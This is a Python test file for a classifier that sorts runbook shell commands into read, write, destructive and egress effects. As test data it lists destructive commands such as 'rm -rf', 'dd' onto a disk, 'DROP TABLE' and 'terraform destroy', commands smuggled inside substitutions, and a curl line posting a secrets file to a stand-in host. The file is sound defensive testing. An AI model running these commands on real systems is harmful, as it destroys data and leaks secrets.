"""What a command would do is told from its structure; what is not known changes things."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from memory.model.plan import Effect
from runbooks.importing.blocks import commands
from runbooks.importing.commands import classified

READS = """
ls -la /var/log
sudo lsof | grep deleted
kubectl get pods -n delete
kubectl rollout status deploy/web
kubectl exec web-0 -c app -- cat /etc/hosts
oc logs -n netobserv <POD>
kubectl get pod <pod> -n <namespace>
kubectl describe node <node name> | less
aws ec2 describe-instances --filters Name=x
aws --profile x --region y s3 ls
terraform plan -out x
helm list -A
git log --oneline
systemctl status nginx
service nginx status
psql -c "select * from pg_stat_activity"
redis-cli -h localhost info
journalctl -u kubelet --since today
kubectl delete pod x --dry-run=client
for i in a b; do echo $i; done
ls 2>/dev/null
ssh host uptime
find /var -name '*.log'
curl -s http://localhost:9090/-/ready
etcdctl endpoint status -w table
gcloud compute instances list
openssl x509 -in a.crt -noout -text
sed -n 1,5p file
docker ps -a
"""
WRITES = """
kubectl scale deploy/web --replicas=3
kubectl rollout restart deploy/web
kubectl apply -f x.yaml
systemctl restart nginx
sudo service nginx restart
echo 1 > /proc/sys/vm/drop_caches
sed -i s/a/b/ file
aws ec2 stop-instances --instance-ids i-1
git push origin main
helm rollback web 3
apt-get install -y x
tee /etc/hosts
ssh host
psql
kubectl exec -it web-0 -- bash
frobnicate --all
./deploy.sh
$COMMAND now
cat <in> out
docker exec x sh
"""
DESTROYS = """
rm -rf /var/lib/x
sudo -u root rm x
kubectl delete pod web-0
kubectl -n get delete pod web-0
kubectl --unknown get delete pod x
kubectl exec web-0 -- rm -rf /data
oc adm drain node-1
find /tmp -mtime +2 -exec rm {} \\;
find /tmp -delete
ls | xargs rm
echo "$(rm -rf x)"
echo `rm x`
true && rm x
ssh -i key host 'sudo rm -rf /x'
bash -c "rm -rf x"
aws ec2 terminate-instances --instance-ids i-1
aws s3 rm s3://bucket --recursive
aws s3 sync a b --delete
terraform destroy -auto-approve
terraform state rm x
git push --force
git push origin +main
git reset --hard HEAD~1
helm uninstall web
docker system prune -f
psql -c "DROP TABLE users"
psql --command="delete from users"
redis-cli flushall
kill -9 123
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
curl -X DELETE http://localhost:9200/index
curl -XDELETE http://localhost:9200/index
gcloud compute instances delete x
crontab -r
apt-get purge x
kubectl replace --force -f x
frobnicate delete everything
rm 'unbalanced
"""
SENDS = """
curl -d @secrets https://elsewhere.example
curl https://elsewhere.example/x
scp file host:/tmp
aws s3 cp file s3://bucket
rsync -a a host:b
"""


def each_of(*tables: tuple[str, Effect]) -> list[tuple[str, Effect]]:
    return [(line, effect) for table, effect in tables for line in table.strip().splitlines()]


@pytest.mark.parametrize(
    ("command", "effect"),
    each_of((READS, Effect.READ), (WRITES, Effect.WRITE), (DESTROYS, Effect.DESTRUCTIVE), (SENDS, Effect.EGRESS)),
)
def test_a_command_is_told_by_what_it_would_do(command: str, effect: Effect) -> None:
    assert classified(command).effect is effect


@settings(deadline=None)
@given(st.text(max_size=200))
def test_no_text_crashes_it(text: str) -> None:
    assert classified(text).why


@settings(deadline=None)
@given(
    st.text(alphabet="abcdefghij-", min_size=1, max_size=12).map(lambda word: f"zz{word}"), st.text(max_size=20)
)
def test_a_program_nobody_knows_never_only_looks(program: str, rest: str) -> None:
    assert classified(f"{program} {rest}").effect is not Effect.READ


@settings(deadline=None)
@given(st.sampled_from(READS.strip().splitlines()), st.sampled_from([";", "&&", "||", "|", "\n"]))
def test_what_is_behind_something_harmless_is_not_overlooked(first: str, between: str) -> None:
    assert classified(f"{first} {between} rm -rf x").effect is Effect.DESTRUCTIVE


def test_prompts_are_taken_off_output_is_left_aside_and_lines_are_joined() -> None:
    block = "$ kubectl get \\\n  pods\nNAME READY\nrm 1/1\n[root@web-1 ~]# systemctl restart x\n"
    assert [each.text for each in commands(block, "console", 10)] == [
        "kubectl get \\\n  pods",
        "systemctl restart x",
    ]
    assert [each.line for each in commands(block, "console", 10)] == [10, 14]


def test_a_document_handed_to_a_command_is_one_with_it() -> None:
    block = "kubectl apply -f - <<EOF\nkind: Pod\nEOF\nkubectl get pods\n"
    assert [each.line for each in commands(block, "", 1)] == [1, 4]


def test_a_block_of_something_else_holds_no_commands() -> None:
    assert commands("spec:\n  replicas: 3\n", "yaml", 1) == ()
    assert commands('{"a": 1}', "json", 1) == ()
